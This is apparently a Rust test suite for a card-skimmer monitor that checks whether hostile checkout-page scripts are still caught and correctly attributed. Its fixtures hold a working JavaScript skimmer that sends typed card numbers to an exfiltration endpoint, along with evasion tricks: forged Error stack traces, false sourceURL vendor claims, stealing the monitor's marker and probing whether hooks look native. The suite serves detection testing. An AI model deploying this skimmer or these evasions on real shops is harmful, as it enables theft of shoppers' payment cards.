//! Identity cannot be claimed: sourceURL, stack traces, Error and toString are labels at most.
//!
//! Each test serves a page written by the attacker on loopback and scans it with the real binary
//! in real Chromium. Where code came from is what the browser fetched or parsed (`embedderName`,
//! the DOM, the request), so code that names itself after a trusted vendor stays what it is and a
//! `trust = "url"` policy never writes its hash into the baseline; the monitor's own code is known
//! by the exact source it injected, so a page that learns its marker is still seen; and a page
//! that forges `Error` or checks that hooks look native is still caught, or its accesses are
//! reported with the sender unknown.

use crate::util::{describe, findings_of, Workspace};
use skimwatch::model::{Finding, FindingKind, ScanReport, ScriptKind, Severity};
use skimwatch_testshop::{Origin, Resource, Shop};
use std::collections::BTreeMap;
use std::path::Path;

const PAGE: &str = "/id/checkout";

/// A checkout form with card fields, `{{HEAD}}` (after the form) replaced by the page's scripts.
const CHECKOUT: &str = r#"<!doctype html>
<html><head><meta charset="utf-8"><title>Checkout</title></head><body>
<form id="pay" action="/order" method="post">
<label>Card number <input id="cc-number" name="cardnumber" autocomplete="cc-number"></label>
<label>Expiry <input id="cc-exp" name="exp" autocomplete="cc-exp" placeholder="MM/YY"></label>
<label>CVC <input id="cc-csc" name="cvc" autocomplete="cc-csc"></label>
<button type="submit">Pay now</button>
</form>
{{HEAD}}
</body></html>
"#;

/// The vendor's payment widget, benign.
const VENDOR_JS: &str = "window.vendorPay = { version: 1 };\n";

fn page_html(head: &str) -> Resource {
    Resource::html(CHECKOUT.replace("{{HEAD}}", head))
}

/// A shop whose checkout loads the vendor's `pay.js`; the config trusts the vendor by URL.
/// Returns the approved workspace and the vendor script's URL.
fn approved_with_trusted_vendor(extra: &str) -> (Workspace, String) {
    let shop = Shop::start_in_background().expect("start the test shop");
    let vendor_js = shop.url(Origin::Vendor, "/pay.js");
    shop.set_resource(Origin::Vendor, "/pay.js", Resource::js(VENDOR_JS));
    shop.set_resource(Origin::Shop, PAGE, page_html(&format!(r#"<script src="{vendor_js}"></script>"#)));
    let url = shop.url(Origin::Shop, PAGE);
    let policy = format!(
        "{extra}\n[[page.policy]]\nmatch = \"{}/*\"\ntrust = \"url\"\nreason = \"the vendor forbids pinning\"\n",
        shop.base(Origin::Vendor)
    );
    let ws = Workspace::with_page_config(shop, "checkout", &url, &policy);
    ws.approved_baseline();
    (ws, vendor_js)
}

/// Every file under the workspace's baselines folder, with its content.
fn baseline_files(ws: &Workspace) -> BTreeMap<String, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![ws.dir.path().join("baselines")];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else { continue };
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else {
                let name = p.strip_prefix(ws.dir.path()).unwrap_or(Path::new("?")).display().to_string();
                out.insert(name, std::fs::read(&p).unwrap_or_default());
            }
        }
    }
    out
}

/// Scans a page whose code claims the vendor's URL and checks what must hold in all three
/// variants: nothing is recorded as the vendor's external script with the attacker's code,
/// no finding is `info` (the policy did not follow), and the baseline files are untouched.
fn scan_claiming_vendor(ws: &Workspace, vendor_js: &str) -> ScanReport {
    let before = baseline_files(ws);
    assert!(!before.is_empty(), "the approval wrote baseline files");
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1, "{}", describe(&report));
    let page = &report.pages[0];
    let approved_vendor: Vec<_> =
        page.scripts.iter().filter(|s| s.url.as_deref() == Some(vendor_js) && s.approved).collect();
    for s in page.scripts.iter().filter(|s| s.url.as_deref() == Some(vendor_js)) {
        assert!(s.approved, "the vendor's URL names only the vendor's approved file: {s:#?}\n{}", describe(&report));
    }
    assert!(approved_vendor.len() <= 1);
    for f in &page.findings {
        assert_ne!(f.severity, Severity::Info, "no policy followed attacker code: {}", describe(&report));
        assert!(f.policy.is_none(), "{f:#?}");
        assert!(
            !(f.kind == FindingKind::AlteredScript
                && f.script.as_ref().and_then(|s| s.url.as_deref()) == Some(vendor_js)),
            "reported as the vendor's altered script: {}",
            describe(&report)
        );
    }
    let after = baseline_files(ws);
    assert_eq!(before, after, "the scan wrote nothing into the baseline files");
    for f in &page.findings {
        if let Some(s) = &f.script {
            assert!(
                after.values().all(|content| !String::from_utf8_lossy(content).contains(&s.sha256)),
                "attacker hash {} in the baseline",
                s.sha256
            );
        }
    }
    report
}

/// The new finding for the script of `kind` (there must be one, high, not info).
fn new_script_of_kind(report: &ScanReport, kind: ScriptKind) -> &Finding {
    let f = findings_of(report, FindingKind::NewScript)
        .into_iter()
        .find(|f| f.script.as_ref().is_some_and(|s| s.kind == kind))
        .unwrap_or_else(|| panic!("no new {kind:?} script:\n{}", describe(report)));
    assert!(f.severity >= Severity::High, "{f:#?}");
    f
}

#[test]
fn inline_script_claiming_a_trusted_vendor_url_stays_inline_and_is_not_followed() {
    let (ws, vendor_js) = approved_with_trusted_vendor("interact = \"none\"\nsettle = \"300ms\"");
    // The real tag is gone; an inline block carries the vendor's code plus a skimmer, fetches
    // the vendor's URL once (so it *was* requested) and names itself after it.
    let inline = format!("{VENDOR_JS}window.__skim = 1;\nfetch({vendor_js:?});\n//# sourceURL={vendor_js}");
    ws.shop.set_resource(Origin::Shop, PAGE, page_html(&format!("<script id=\"pay\">{inline}</script>")));
    let report = scan_claiming_vendor(&ws, &vendor_js);
    let f = new_script_of_kind(&report, ScriptKind::Inline);
    assert!(f.script.as_ref().unwrap().url.is_none(), "no URL taken from the claim: {f:#?}");
    assert!(ws.shop.requests_to(Origin::Vendor).iter().any(|r| r.path == "/pay.js"), "the claim fetched the URL");
}

#[test]
fn file_on_the_attackers_host_claiming_a_trusted_vendor_url_is_that_file() {
    let (ws, vendor_js) = approved_with_trusted_vendor("interact = \"none\"\nsettle = \"300ms\"");
    let attacker_js = ws.shop.url(Origin::Attacker, "/pay.js");
    ws.shop.set_resource(
        Origin::Attacker,
        "/pay.js",
        Resource::js(format!("{VENDOR_JS}window.__skim = 1;\nfetch({vendor_js:?});\n//# sourceURL={vendor_js}")),
    );
    ws.shop.set_resource(Origin::Shop, PAGE, page_html(&format!(r#"<script src="{attacker_js}"></script>"#)));
    let report = scan_claiming_vendor(&ws, &vendor_js);
    let f = new_script_of_kind(&report, ScriptKind::External);
    assert_eq!(f.script.as_ref().unwrap().url.as_deref(), Some(attacker_js.as_str()), "{}", describe(&report));
}

#[test]
fn string_timer_code_claiming_a_trusted_vendor_url_is_eval() {
    let (ws, vendor_js) = approved_with_trusted_vendor("interact = \"none\"\nsettle = \"300ms\"");
    // String timers compile without a stack: nothing but the claim names this code.
    let code = format!("{VENDOR_JS}window.__skim = 1;\nfetch({vendor_js:?});\n//# sourceURL={vendor_js}");
    let loader = format!("<script>setTimeout({code:?}, 0);</script>");
    ws.shop.set_resource(Origin::Shop, PAGE, page_html(&loader));
    let report = scan_claiming_vendor(&ws, &vendor_js);
    let f = new_script_of_kind(&report, ScriptKind::Eval);
    assert!(f.script.as_ref().unwrap().url.is_none(), "{f:#?}");
}

/// A workspace on a fresh shop serving `head` in the checkout, typing the canary.
fn typing_workspace(head: impl Fn(&Shop) -> String) -> Workspace {
    let shop = Shop::start_in_background().expect("start the test shop");
    shop.set_resource(Origin::Shop, PAGE, page_html(&head(&shop)));
    let url = shop.url(Origin::Shop, PAGE);
    Workspace::with_page_config(shop, "checkout", &url, "settle = \"1s\"")
}

/// A skimmer: on every input to the card number with 15 or 16 digits in, sends them (the
/// canary is 15 or 16 digits long, varying per scan; the full number is among what is sent).
fn skimmer(shop: &Shop) -> String {
    format!(
        "(function(){{var cc=document.getElementById('cc-number');cc.addEventListener('input',function(){{var v=cc.value.replace(/\\D/g,'');if(v.length<15||v.length>16)return;fetch({:?}+'?d='+btoa(v),{{method:'POST',mode:'no-cors',body:v}});}});}})();",
        shop.exfil_url()
    )
}

fn exfiltrations(report: &ScanReport) -> Vec<&Finding> {
    let all = findings_of(report, FindingKind::CardExfiltration);
    assert!(!all.is_empty(), "no card_exfiltration:\n{}", describe(report));
    all
}

fn card_field_accesses(report: &ScanReport) -> Vec<&Finding> {
    findings_of(report, FindingKind::PaymentFieldAccess)
        .into_iter()
        .filter(|f| f.access.as_ref().is_some_and(|a| a.field == "#cc-number"))
        .collect()
}

#[test]
fn skimmer_that_learns_the_monitors_marker_from_a_stack_is_still_inventoried_and_caught() {
    let ws = typing_workspace(|shop| {
        // The page wraps CSS.escape, which the field hooks call while they run, reads the
        // stack there, finds the monitor's marker and puts it on its skimmer.
        let skim = skimmer(shop);
        format!(
            r#"<script>
(function(){{
  var marker = null, esc = CSS.escape;
  CSS.escape = function(s){{ try {{ var m = /\(([a-z]{{14}}\.js):\d+:\d+\)/.exec(String(new Error().stack)); if (m) marker = m[1]; }} catch (e) {{}} return esc.call(CSS, s); }};
  var cc = document.getElementById('cc-number');
  cc.addEventListener('change', function(){{}});
  setTimeout(function(){{
    new Image().src = {probe:?} + '?m=' + marker;
    var s = document.createElement('script');
    s.text = {skim:?} + '\n//# sourceURL=' + marker;
    document.head.appendChild(s);
  }}, 0);
}})();
</script>"#,
            probe = shop.url(Origin::Attacker, "/learned"),
        )
    });
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1);
    // The page did learn the marker (else this test proves nothing).
    let learned = ws.shop.requests_to(Origin::Attacker).into_iter().find(|r| r.path.starts_with("/learned"));
    let marker = learned.map(|r| r.path.clone()).unwrap_or_default();
    assert!(marker.len() == "/learned?m=".len() + 17 && marker.ends_with(".js"), "marker learned: {marker:?}");
    // Its skimmer is inventoried, and its exfiltration and card-field access name it.
    let leak = exfiltrations(&report)[0];
    let skimmer_script = leak.script.as_ref().unwrap_or_else(|| panic!("leak names its script: {leak:#?}"));
    // A script element filled by script: the browser names no resource, so it is code compiled
    // by the loader (eval, initiator the loader) or the inline block the DOM holds.
    assert!(matches!(skimmer_script.kind, ScriptKind::Inline | ScriptKind::Eval), "{}", describe(&report));
    assert!(report.pages[0].scripts.iter().any(|s| s.id == skimmer_script.id), "the skimmer is inventoried");
    let accesses = card_field_accesses(&report);
    assert!(
        accesses.iter().any(|f| f.script.as_ref().is_some_and(|s| s.id == skimmer_script.id)),
        "the skimmer's listener is reported:\n{}",
        describe(&report)
    );
}

/// The approved first-party script formats the card number as it is typed: it listens to
/// `input` on the field and reads its value.
const APP_JS: &str = "(function(){var cc=document.getElementById('cc-number');\ncc.addEventListener('input',function(){var v=cc.value;window.__len=v.length;});})();\n";

/// A shop whose approved checkout runs `/id/app.js` (which reads the card field); returns the
/// workspace and the URL of app.js.
fn approved_with_formatter() -> (Workspace, String) {
    let ws = typing_workspace(|shop| format!(r#"<script src="{}"></script>"#, shop.url(Origin::Shop, "/id/app.js")));
    ws.shop.set_resource(Origin::Shop, "/id/app.js", Resource::js(APP_JS));
    ws.approved_baseline();
    let app = ws.shop.url(Origin::Shop, "/id/app.js");
    (ws, app)
}

/// Adds `code` as an inline script before app.js.
fn plant_inline(ws: &Workspace, app: &str, code: &str) {
    ws.shop.set_resource(
        Origin::Shop,
        PAGE,
        page_html(&format!("<script>{code}</script>\n<script src=\"{app}\"></script>")),
    );
}

#[test]
fn forged_error_naming_the_approved_script_does_not_hide_the_skimmer() {
    let (ws, app) = approved_with_formatter();
    // The page's Error, prepareStackTrace and captureStackTrace all say "app.js, line 2", where
    // the approved formatter reads the field.
    let forged = format!("Error\\n    at HTMLInputElement.<anonymous> ({app}:2:60)");
    let code = format!(
        "(function(){{var R=Error,s=\"{forged}\";function F(m){{this.message=m;this.stack=s;}}F.prototype=R.prototype;F.captureStackTrace=function(o){{o.stack=s;}};F.stackTraceLimit=10;F.prepareStackTrace=function(){{return s;}};R.prepareStackTrace=function(){{return s;}};window.Error=F;}})();\n{}",
        skimmer(&ws.shop)
    );
    plant_inline(&ws, &app, &code);
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1);
    let accesses = card_field_accesses(&report);
    assert!(!accesses.is_empty(), "the skimmer's card-field access is a finding:\n{}", describe(&report));
    for f in &accesses {
        assert!(
            f.script.as_ref().is_none_or(|s| s.id != "self:/id/app.js"),
            "not attributed to the approved app.js: {f:#?}"
        );
    }
    assert!(accesses.iter().any(|f| f.script.as_ref().is_some_and(|s| s.kind == ScriptKind::Inline)));
    let leak = exfiltrations(&report)[0];
    assert_eq!(leak.script.as_ref().map(|s| s.kind), Some(ScriptKind::Inline), "{leak:#?}");
}

#[test]
fn locked_prepare_stack_trace_makes_the_sender_unknown_and_still_a_finding() {
    let (ws, app) = approved_with_formatter();
    // The real Error (reachable through TypeError) gets a prepareStackTrace that cannot be
    // replaced and always names app.js.
    let code = format!(
        "Object.defineProperty(Object.getPrototypeOf(TypeError),'prepareStackTrace',{{value:function(){{return \"Error\\n    at x ({app}:2:60)\";}},writable:false,configurable:false}});\n{}",
        skimmer(&ws.shop)
    );
    plant_inline(&ws, &app, &code);
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1);
    let accesses = card_field_accesses(&report);
    let unknown: Vec<_> = accesses.iter().filter(|f| f.script.is_none()).collect();
    assert!(!unknown.is_empty(), "an unknown-sender access is a finding:\n{}", describe(&report));
    for f in &accesses {
        assert!(f.script.as_ref().is_none_or(|s| s.id != "self:/id/app.js"), "{f:#?}");
    }
    let f = unknown[0];
    assert_eq!((f.severity, f.initiator.as_deref()), (Severity::High, None), "{f:#?}");
    assert!(f.title.contains("unknown"), "{}", f.title);
    // Approving it does nothing: an unknown sender never matches the baseline.
    ws.skimwatch().args(["baseline", "approve", "--finding", &f.id, "--by", "bob", "--reason", "x"]).output().unwrap();
    let (_, again) = ws.scan(&[]);
    assert!(card_field_accesses(&again).iter().any(|g| g.script.is_none()), "{}", describe(&again));
}

#[test]
fn skimmer_that_checks_hooks_look_native_is_still_caught() {
    let ws = typing_workspace(|shop| {
        format!(
            r#"<script>
(function(){{
  var ts = Function.prototype.toString, add = EventTarget.prototype.addEventListener;
  var get = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').get;
  var nat = function(f, n){{ return ts.call(f) === 'function ' + n + '() {{ [native code] }}'; }};
  var ok = add.length === 2 && add.name === 'addEventListener' && nat(add, 'addEventListener')
    && get.length === 0 && get.name === 'get value' && nat(get, 'get value')
    && nat(ts, 'toString') && ts.length === 0 && ts.name === 'toString';
  Function.prototype.toString = function toString(){{ return ts.call(this); }};
  ok = ok && nat(add, 'addEventListener') && Function.prototype.toString.call(add).indexOf('[native code]') > 0;
  new Image().src = {probe:?} + '?ok=' + ok;
  if (!ok) return;
  {skim}
}})();
</script>"#,
            probe = shop.url(Origin::Attacker, "/native"),
            skim = skimmer(shop),
        )
    });
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1);
    let probe = ws.shop.requests_to(Origin::Attacker).into_iter().find(|r| r.path.starts_with("/native"));
    assert_eq!(probe.map(|r| r.path), Some("/native?ok=true".to_string()), "the hooks look native");
    let leak = exfiltrations(&report)[0];
    assert_eq!(leak.script.as_ref().map(|s| s.kind), Some(ScriptKind::Inline), "{leak:#?}");
    let accesses = card_field_accesses(&report);
    assert!(
        accesses.iter().any(|f| f.script.as_ref().map(|s| &s.id) == leak.script.as_ref().map(|s| &s.id)),
        "{}",
        describe(&report)
    );
}

#[test]
fn approved_vendor_fetching_its_config_and_reading_the_field_stays_quiet() {
    // A vendor widget (trusted by URL) that fetches its config, listens to and reads the card
    // field, plus first-party inline and eval'd code: approved once, a rescan is clean.
    let shop = Shop::start_in_background().expect("start the test shop");
    let vendor_js = shop.url(Origin::Vendor, "/widget.js");
    shop.set_resource(Origin::Vendor, "/config.json", Resource::json("{\"theme\":\"light\"}"));
    shop.set_resource(
        Origin::Vendor,
        "/widget.js",
        Resource::js(format!(
            "fetch({:?}).then(function(r){{return r.json();}});\nvar cc=document.getElementById('cc-number');cc.addEventListener('input',function(){{window.__n=cc.value.length;}});\n",
            shop.url(Origin::Vendor, "/config.json")
        )),
    );
    shop.set_resource(
        Origin::Shop,
        PAGE,
        page_html(&format!(
            "<script id=\"boot\">window.shop = {{ step: 2 }}; eval('window.shop.ready = true');</script>\n<script src=\"{vendor_js}\"></script>"
        )),
    );
    let url = shop.url(Origin::Shop, PAGE);
    let extra = format!(
        "settle = \"1s\"\n[[page.policy]]\nmatch = \"{}/*\"\ntrust = \"url\"\nreason = \"the vendor forbids pinning\"\n",
        shop.base(Origin::Vendor)
    );
    let ws = Workspace::with_page_config(shop, "checkout", &url, &extra);
    ws.approved_baseline();
    let (code, report) = ws.scan(&[]);
    assert_eq!((code, report.pages[0].findings.len()), (0, 0), "{}", describe(&report));
    let page = &report.pages[0];
    assert!(
        page.field_access.iter().any(|a| a.script.as_ref().is_some_and(|s| s.url.as_deref() == Some(&vendor_js))),
        "the vendor's access is attributed to it: {:#?}",
        page.field_access
    );
    assert!(page.scripts.iter().any(|s| s.kind == ScriptKind::External && s.url.as_deref() == Some(&vendor_js)));
}
